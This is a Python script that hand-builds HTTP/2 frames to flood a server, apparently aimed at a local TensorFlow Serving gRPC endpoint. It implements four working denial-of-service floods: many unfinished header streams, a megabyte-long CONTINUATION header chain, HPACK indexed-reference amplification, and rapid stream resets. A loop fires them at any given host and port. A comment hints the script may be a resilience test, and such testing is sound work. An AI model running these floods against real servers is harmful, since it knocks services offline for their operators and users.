"""Floods of HTTP/2 headers over one raw connection, without a library that would keep to the server's limits."""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, CONTINUATION, END_HEADERS = 1, 3, 4, 9, 4  # frames and a flag (RFC 9113, 6)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK without Huffman's code (RFC 7541, 5.2)."""
    length, head = len(value), b""
    if length >= 127:
        head, length = b"\x7f", length - 127
        while length >= 128:
            head, length = head + bytes([length % 128 | 128]), length // 128
    return head + bytes([length]) + value


def header(name, value, indexed=False):
    return (b"\x40" if indexed else b"\0") + text(name) + text(value)


REQUEST = b"".join(
    header(*pair)
    for pair in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/tensorflow.serving.PredictionService/Predict"),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def many_streams(stream):
    """Fifty requests with 7 KB of headers each, none of them ended."""
    headers = REQUEST + b"".join(header(b"x-%d" % k, b"a" * 1000) for k in range(7))
    return 50, b"".join(frame(HEADERS, END_HEADERS, stream + 2 * place, headers) for place in range(50))


def endless_headers(stream):
    """A request with a megabyte of headers, in continuations."""
    parts = b"".join(frame(CONTINUATION, 0, stream, header(b"x-%d" % k, b"a" * 15000)) for k in range(64))
    return 1, frame(HEADERS, 0, stream, REQUEST) + parts + frame(CONTINUATION, END_HEADERS, stream, b"")


def references(stream):
    """A request of 7 KB whose headers are 3,000 references to one of 4 KB: 12 MB."""
    return 1, frame(HEADERS, END_HEADERS, stream, REQUEST + header(b"x", b"a" * 3900, indexed=True) + b"\xbe" * 3000)


def resets(stream):
    """A hundred requests, each taken back at once."""
    return 100, b"".join(
        frame(HEADERS, END_HEADERS, stream + 2 * place, REQUEST + header(b"x", b"a" * 4000))
        + frame(RESET, 0, stream + 2 * place, struct.pack(">I", 8))
        for place in range(100)
    )


def burst(target, make, seconds):
    """Sends a flood over one connection for some seconds, or until the server ends it; returns the bytes sent."""
    host, port = target.rsplit(":", 1)
    sent, stream, end = 0, 1, time.monotonic() + seconds
    try:
        with socket.create_connection((host, int(port)), timeout=10) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            while time.monotonic() < end:
                count, data = make(stream)
                connection.sendall(data)
                sent, stream = sent + len(data), stream + 2 * count
                connection.setblocking(False)
                try:
                    while connection.recv(1 << 20):
                        pass
                except BlockingIOError:
                    pass
                connection.settimeout(10)
    except OSError:
        pass  # refused or closed, as it should be
    return sent
